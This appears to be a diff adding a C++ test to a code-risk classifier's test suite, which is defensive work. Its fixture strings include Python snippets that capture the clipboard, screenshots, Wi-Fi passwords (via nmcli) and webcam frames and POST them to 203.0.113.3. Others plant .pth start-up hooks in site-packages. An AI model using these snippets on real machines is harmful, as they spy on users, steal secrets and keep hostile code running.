@@ -326,5 +326,42 @@ TEST(RubricClasses, PropertiesRunTheirGetter) {
   for (const auto& c : cases) check(c);
 }
 
+// Capture through programs and devices: clipboard readers and screenshot
+// tools run as commands (their output, printed or written, holds what they
+// captured and check_output returns it), Wi-Fi secrets dumped by nmcli, a
+// webcam frame written with cv2.imwrite; start-up hooks as .pth files in
+// site-packages. Kept on the machine, or an ordinary .pth model file, they
+// are not raised.
+TEST(RubricClasses, CaptureThroughProgramsAndStartupHooks) {
+  const Case cases[] = {
+      {"xclip output posted", B,
+       "import subprocess, requests\nclip = subprocess.check_output(['xclip', '-selection', 'clipboard', '-o']).decode()\n"
+       "requests.post('http://203.0.113.3/c', data=clip)\n",
+       "EXFILTRATION"},
+      {"xclip output kept", M, "import subprocess\nclip = subprocess.check_output(['xclip', '-o'])\nprint(len(clip))\n", "RUNS-PROCESS"},
+      {"scrot screenshot uploaded", B,
+       "import subprocess, requests\nsubprocess.run(['scrot', 'shot.png'])\n"
+       "requests.post('http://203.0.113.3/s', files={'f': open('shot.png', 'rb')})\n",
+       "EXFILTRATION"},
+      {"nmcli secrets posted", B,
+       "import subprocess, requests\nout = subprocess.check_output(['nmcli', '-s', '-g', '802-11-wireless-security.psk', 'connection', 'show', 'home'])\n"
+       "requests.post('http://203.0.113.3/w', data=out)\n",
+       "EXFILTRATION"},
+      {"webcam frame written and uploaded", B,
+       "import cv2, requests\ncam = cv2.VideoCapture(0)\nok, frame = cam.read()\ncv2.imwrite('f.jpg', frame)\n"
+       "requests.post('http://203.0.113.3/w', files={'f': open('f.jpg', 'rb')})\n",
+       "EXFILTRATION"},
+      {"a .pth start-up hook in site-packages", B,
+       "import os, site\npth = os.path.join(site.getsitepackages()[0], 'zz.pth')\nopen(pth, 'w').write('import os\\n')\n",
+       "PERSISTENCE"},
+      {"a .pth in the user's site-packages", B,
+       "import os, site\nopen(os.path.join(site.getusersitepackages(), 'a.pth'), 'w').write('import helper\\n')\n",
+       "PERSISTENCE"},
+      {"a model saved as .pth", L, "import torch\ntorch.save({}, 'model.pth')\n"},
+      {"clipboard written from a file in a shell script", L, "xclip -selection clipboard < notes.txt\n", nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
